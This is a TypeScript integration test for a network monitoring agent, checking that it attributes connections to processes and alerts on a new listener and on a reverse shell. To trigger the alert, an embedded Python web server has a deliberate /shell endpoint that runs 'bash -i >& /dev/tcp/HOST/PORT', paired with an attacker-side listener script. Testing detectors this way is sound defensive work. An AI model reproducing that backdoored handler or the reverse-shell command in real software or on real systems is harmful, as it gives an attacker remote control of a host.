/**
 * Process attribution and the process detectors on real traffic (root only): `loopy agent` in one network
 * namespace capturing its end of a veth pair, with real processes on both sides — a python HTTP server in
 * the agent's namespace (in a cgroup of its own, so it has a unit), one in the other namespace (a process
 * in its own network namespace), curl, short python clients holding a connection 50 ms, and a reverse shell
 * (`bash -i >& /dev/tcp/…`) started by the server that until then only served. Checks pid, name, user and
 * unit on the conn records, new_listener, and new_process_talker naming the shell while ordinary outbound
 * traffic of a known process raises nothing. Everything is torn down, even on failure.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { captureAddonProblem } from '../capture/live-addon.js';
import { cliCommand, runCli } from '../test-support/cli.js';
import { haveTmux, TmuxServer } from '../ui/testing/tmux.js';
import { NamespacePair } from '../test-support/netns.js';
import { JsonChild, startAgentIn } from './agent-netns.test-util.js';

const pair = new NamespacePair('lpp', { net: (process.pid + 77) % 250 });
const WEB_PORT = 8181;
const FAR_PORT = 8282;
const SHELL_PORT = 4444;
const NEW_PORT = 8383;

function skipReason(): string | false {
  let reason: string | false = captureAddonProblem() ?? false;
  if (!reason && process.getuid?.() !== 0) reason = 'the process attribution tests need root (network namespaces, other processes\' sockets)';
  for (const [tool, args] of [['ip', ['-V']], ['python3', ['-V']], ['curl', ['-V']], ['bash', ['--version']]] as const) {
    if (!reason && spawnSync(tool, args).status !== 0) reason = `${tool} is not installed`;
  }
  if (reason && process.env.CI) throw new Error(`${reason} (required in CI)`);
  if (reason) console.warn(`SKIPPING process attribution tests: ${reason}`);
  return reason;
}

/**
 * An HTTP server that answers /slow after 300 ms (a curl that lasts long enough to be caught every time) and,
 * asked for /shell?HOST:PORT, starts a reverse shell to there (what an exploit does).
 */
const WEB_SERVER = `
import http.server, subprocess, sys, time
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        if self.path == '/slow': time.sleep(0.3)
        if self.path.startswith('/shell?'):
            host, port = self.path[7:].split(':')
            subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/%s/%s 0>&1' % (host, port)], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.send_response(200); self.end_headers(); self.wfile.write(b'ok')
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H).serve_forever()
`;
/** Connects, holds the connection `ms`, closes; prints its pid and local port. */
const SHORT_CLIENT = `
import socket, sys, time, os, json
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
print(json.dumps({"pid": os.getpid(), "port": s.getsockname()[1]}), flush=True)
time.sleep(float(sys.argv[3]) / 1000); s.close()
`;
/** The attacker's end of the reverse shell: accepts, sends a command and exit, reads to the end. */
const SHELL_LISTENER = `
import socket, sys, json
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind((sys.argv[1], int(sys.argv[2]))); l.listen(1)
print(json.dumps({"event": "ready"}), flush=True)
c, _ = l.accept(); c.sendall(b'sleep 3; exit\\n'); data = c.recv(65536)
while data: data = c.recv(65536)
print(json.dumps({"event": "done"}), flush=True)
`;

const running: JsonChild[] = [];
function python(ns: string, code: string, args: Array<string | number>): JsonChild {
  const child = new JsonChild(spawn('ip', ['netns', 'exec', ns, 'python3', '-c', code, ...args.map(String)], { stdio: ['pipe', 'pipe', 'pipe'] }));
  running.push(child);
  return child;
}

function run(ns: string, cmd: string[]): string {
  const r = spawnSync('ip', ['netns', 'exec', ns, ...cmd], { encoding: 'utf8', timeout: 15_000 });
  assert.equal(r.status, 0, `${cmd.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/** Puts a process in a cgroup named like a systemd unit; the unit, or undefined where cgroups cannot be made. */
function intoUnit(pid: number, unit: string): { unit?: string; dir?: string } {
  for (const base of ['/sys/fs/cgroup/unified', '/sys/fs/cgroup/systemd', '/sys/fs/cgroup']) {
    const dir = join(base, unit);
    try {
      mkdirSync(dir);
      writeFileSync(join(dir, 'cgroup.procs'), String(pid));
      return { unit, dir };
    } catch {
      try {
        rmdirSync(dir);
      } catch {
        // not made
      }
    }
  }
  return {};
}

/** Ends what is left in the test's cgroup (the shell's children) and removes it; never throws. */
function removeUnit(dir: string): void {
  try {
    for (const pid of readFileSync(join(dir, 'cgroup.procs'), 'utf8').split('\n').filter(Boolean).map(Number)) {
      writeFileSync(join(dir, '..', 'cgroup.procs'), String(pid));
      process.kill(pid, 'SIGKILL');
    }
    rmdirSync(dir);
  } catch (err) {
    console.warn(`process attribution test: could not remove ${dir}: ${(err as Error).message}`);
  }
}

/** The first flow in the agent's history that `wanted` picks, asked again until it is there (flushed once a second). */
async function storedFlow(target: string, wanted: (r: Record<string, any>) => boolean): Promise<Record<string, any> | undefined> {
  for (let i = 0; i < 20; i++) {
    const r = runCli(['query', target, 'flows', '--json', '--limit', '10000']);
    assert.equal(r.status, 0, r.stderr);
    const found = r.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, any>).find(wanted);
    if (found) return found;
    await sleep(500);
  }
  return undefined;
}

/**
 * `loopy ui` on the agent in tmux, started before the traffic (the UI shows live flows): undefined without
 * tmux (a warning; CI requires it).
 */
function startUi(target: string): TmuxServer | undefined {
  if (!haveTmux()) {
    if (process.env.CI) assert.fail('tmux is not installed (required in CI)');
    console.warn('process attribution test: no tmux, the UI is not checked');
    return undefined;
  }
  const tmux = new TmuxServer(`loopy-proc-ui-${process.pid}`);
  tmux.start('ui', 200, 40, [...cliCommand(), 'ui', target]);
  return tmux;
}

/**
 * As a user would: the Processes view lists the python web server with its unit and user, `u` groups by
 * unit, Enter lists its connections (accepted: ←), and Connections names the curl and the far server.
 */
async function processesOnScreen(tmux: TmuxServer, pids: { web: number; far: number; curl: number }, unit: string | undefined, peer: string): Promise<void> {
  tmux.keys('ui', '8');
  const list = await tmux.waitFor('ui', new RegExp(`python3\\[${pids.web}\\]\\s+${unit ?? '\\(no unit\\)'}\\s+root`), 20_000);
  assert.match(list, /processes, sorted by bytes \(u: by unit\)/);
  tmux.keys('ui', 'u');
  if (unit) await tmux.waitFor('ui', new RegExp(`^${unit.replace(/\./g, '\\.')}\\s+\\d+\\s+root`, 'm'));
  tmux.keys('ui', 'u'); // one key a send: a chunk of keys reaches the UI as one input
  await tmux.waitFor('ui', /processes, sorted by bytes \(u: by unit\)/);
  tmux.keys('ui', '/');
  await tmux.waitFor('ui', /^\/█ \(Enter apply/m);
  tmux.keys('ui', `python3[${pids.web}]`, 'Enter');
  await tmux.waitFor('ui', /1 processes matching/);
  tmux.keys('ui', 'Enter');
  await tmux.waitFor('ui', new RegExp(`python3\\[${pids.web}\\] on \\S+: \\d+ connections[^\\n]*\\n.*\\n.*python3\\[${pids.web}\\]\\s+← ${peer.replace(/\./g, '\\.')}:\\d+`));
  tmux.keys('ui', 'Escape', '4');
  await tmux.waitFor('ui', new RegExp(`curl\\[${pids.curl}\\] → python3\\[${pids.far}\\]`));
}

/** In the Alerts view, the detector's alert filtered to, then `x`: the UI says it suppressed it for `unit`. */
async function suppressOnScreen(tmux: TmuxServer, detector: string, unit: string): Promise<void> {
  tmux.keys('ui', '6');
  await tmux.waitFor('ui', /open, \d+ closed/);
  tmux.keys('ui', '/');
  await tmux.waitFor('ui', /^\/█ \(Enter apply/m);
  tmux.keys('ui', detector, 'Enter');
  await tmux.waitFor('ui', new RegExp(`matching "${detector}"`));
  tmux.keys('ui', 'x');
  await tmux.waitFor('ui', new RegExp(`suppressed ${detector} for ${unit.replace(/\./g, '\\.')} on \\S+ for 24h`));
}

const ready = (c: JsonChild) => c.until(() => c.out.some((l) => l.event === 'ready'), 10_000);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

describe('process attribution in the agent, between network namespaces', { skip: skipReason() }, () => {
  const root = mkdtempSync(join(tmpdir(), 'loopy-processes-'));
  const unitName = `loopy-test-web-${process.pid}.service`;
  let cgroup: { unit?: string; dir?: string } = {};
  let agent: JsonChild;
  let web: JsonChild;
  let far: JsonChild;
  let ui: TmuxServer | undefined;

  before(async () => {
    pair.setUp();
    writeFileSync(join(root, 'detect.json'), JSON.stringify({ detectors: { new_listener: { learnSeconds: 3 }, new_process_talker: { learnSeconds: 3 } } }));
    web = python(pair.nsA, WEB_SERVER, [pair.addrA, WEB_PORT]);
    cgroup = intoUnit(web.pid, unitName);
    if (cgroup.unit === undefined) console.warn('process attribution test: no cgroup could be made here; the unit is not checked');
    far = python(pair.nsB, WEB_SERVER, [pair.addrB, FAR_PORT]);
    await sleep(500); // both servers listening before the agent's first sweep: they are its baseline
    agent = startAgentIn(pair.nsA, ['-i', pair.ifA, '--stdout', '--user', 'root', '--data', join(root, 'data'), '--detect-config', join(root, 'detect.json'), '--config', join(root, 'none.json')]);
    writeFileSync(join(root, 'none.json'), '{}');
    running.push(agent);
    assert.ok(await agent.until(() => agent.err.some((l) => l.msg?.startsWith('process attribution on'))), `attribution did not start: ${agent.stderrText}`);
  });

  after(async () => {
    ui?.kill();
    for (const c of running) await c.stop(5000);
    if (cgroup.dir) removeUnit(cgroup.dir);
    pair.tearDown();
    rmSync(root, { recursive: true, force: true });
  });

  test('records name the processes; a new listener and a reverse shell raise alerts, ordinary traffic does not', async () => {
    ui = startUi(`unix:${join(root, 'data', 'agent.sock')}`);
    // Learning (3 s): curl from the other namespace to the web server; the short client to the far server.
    run(pair.nsB, ['curl', '-s', '-o', '/dev/null', `http://${pair.addrA}:${WEB_PORT}/`]);
    const curlOut = spawn('ip', ['netns', 'exec', pair.nsA, 'curl', '-s', '-o', '/dev/null', '-w', '%{local_port}', `http://${pair.addrB}:${FAR_PORT}/slow`]);
    let curlPort = '';
    curlOut.stdout.on('data', (d) => (curlPort += d));
    await new Promise((r) => curlOut.on('exit', r));
    const shorts: Array<{ pid: number; port: number }> = [];
    for (let i = 0; i < 5; i++) {
      const c = python(pair.nsA, SHORT_CLIENT, [pair.addrB, FAR_PORT, 50]);
      assert.ok(await c.until(() => c.out.length > 0, 10_000) && (await c.exited) === 0, `short client: ${c.stderrText}`);
      shorts.push(c.out[0] as { pid: number; port: number });
    }
    await sleep(4000);

    // After learning: the same short client again (ordinary), then a new listener, then the reverse shell.
    const again = python(pair.nsA, SHORT_CLIENT, [pair.addrB, FAR_PORT, 50]);
    assert.equal(await again.exited, 0);
    await sleep(2500);
    // The connect trace is global: other tests' processes on this host connect too. Ours start from the pair's addresses.
    const talker = () => agent.out.filter((r) => r.type === 'alert' && r.detector === 'new_process_talker' && [pair.addrA, pair.addrB].includes(r.src));
    assert.deepEqual(talker(), [], 'ordinary outbound traffic of a known process raised nothing');

    const listener = python(pair.nsA, 'import http.server,sys; http.server.HTTPServer((sys.argv[1], int(sys.argv[2])), http.server.BaseHTTPRequestHandler).serve_forever()', [pair.addrA, NEW_PORT]);
    const shell = python(pair.nsB, SHELL_LISTENER, [pair.addrB, SHELL_PORT]);
    assert.ok(await ready(shell), `shell listener: ${shell.stderrText}`);
    run(pair.nsB, ['curl', '-s', '-o', '/dev/null', `http://${pair.addrA}:${WEB_PORT}/shell?${pair.addrB}:${SHELL_PORT}`]);
    const raised = await agent.until(() => talker().length > 0, 6000);
    assert.ok(raised, `no new_process_talker alert: ${agent.stderrText.slice(-2000)}`);
    const alert = talker()[0];
    assert.equal(alert.evidence.process.name, 'bash', alert.message);
    assert.match(alert.message, /bash \(pid \d+/);
    assert.match(alert.message, /only listened and accepted/);
    if (cgroup.unit) assert.equal(alert.evidence.process.unit, cgroup.unit);
    // Other namespaces on this host are watched too: other tests' listeners may raise their own alerts.
    const ours = (r: (typeof agent.out)[number]) => r.type === 'alert' && r.detector === 'new_listener' && r.evidence?.ports?.includes(NEW_PORT);
    assert.ok(await agent.until(() => agent.out.some(ours), 5000), 'no new_listener alert');
    const newListener = agent.out.find(ours)!;
    assert.equal(newListener.evidence.process.pid, listener.pid, 'the new listener is named by its pid');
    assert.match(newListener.message, /python3.* started listening on tcp\/8383/);
    assert.equal(agent.out.filter((r) => ours(r) && r.state === 'open').length, 1, 'one alert for the new listener');

    // History keeps them: `loopy query flows` against the agent, as a user would run it.
    const target = `unix:${join(root, 'data', 'agent.sock')}`;
    const stored = await storedFlow(target, (r) => r['id.resp_p'] === FAR_PORT && String(r['id.orig_p']) === curlPort.trim());
    assert.equal(stored?.orig_process?.name, 'curl', JSON.stringify(stored));
    assert.equal(stored?.resp_process?.pid, far.pid);
    const table = runCli(['query', target, 'flows', '--port', String(FAR_PORT)]);
    assert.match(table.stdout, new RegExp(`curl\\[${stored!.orig_process.pid}\\] → python3\\[${far.pid}\\]`), table.stdout + table.stderr);
    const csv = runCli(['query', target, 'flows', '--csv', '--port', String(FAR_PORT)]);
    const header = csv.stdout.split('\n')[0]!.split(',');
    assert.ok(header.includes('orig_process') && header.includes('resp_process'), header.join(','));
    assert.ok(csv.stdout.includes(`"{""pid"":${stored!.orig_process.pid},""name"":""curl""`), csv.stdout);

    if (ui) await processesOnScreen(ui, { web: web.pid, far: far.pid, curl: stored!.orig_process.pid }, cgroup.unit, pair.addrB);
    if (ui && cgroup.unit) {
      // One key in the Alerts view suppresses the reverse shell's alert for the web server's unit: it closes.
      await suppressOnScreen(ui, 'new_process_talker', cgroup.unit);
      const closed = await agent.until(() => agent.out.some((r) => r.type === 'alert' && r.alert_id === alert.alert_id && r.closed_reason === 'suppressed'), 10_000);
      assert.ok(closed, 'the suppressed alert closed');
    }

    assert.notEqual(await agent.stop(), 'killed');
    const conns = agent.out.filter((r) => r.type === 'conn');
    const toWeb = conns.filter((r) => r['id.resp_p'] === WEB_PORT);
    assert.ok(toWeb.length >= 2, `conn records to the web server: ${toWeb.length}`);
    for (const r of toWeb) {
      assert.equal(r.resp_process?.name, 'python3', JSON.stringify(r));
      assert.equal(r.resp_process.user, 'root');
      if (cgroup.unit) assert.equal(r.resp_process.unit, cgroup.unit);
    }
    const viaCurl = conns.find((r) => r['id.resp_p'] === FAR_PORT && String(r['id.orig_p']) === curlPort.trim());
    assert.equal(viaCurl?.orig_process?.name, 'curl', JSON.stringify(viaCurl));
    assert.equal(viaCurl?.orig_process?.exe, spawnSync('bash', ['-c', 'readlink -f "$(command -v curl)"'], { encoding: 'utf8' }).stdout.trim());
    // The far server is in the other namespace: known through /proc/PID/net of one of its processes.
    assert.equal(viaCurl?.resp_process?.pid, far.pid);
    assert.equal(viaCurl?.resp_process?.name, 'python3');
    const caught = shorts.filter((s) => conns.some((r) => r['id.orig_p'] === s.port && r.orig_process?.pid === s.pid && r.orig_process.name === 'python3'));
    assert.ok(caught.length >= 4, `connections of 50 ms attributed: ${caught.length} of 5`);
  });
});
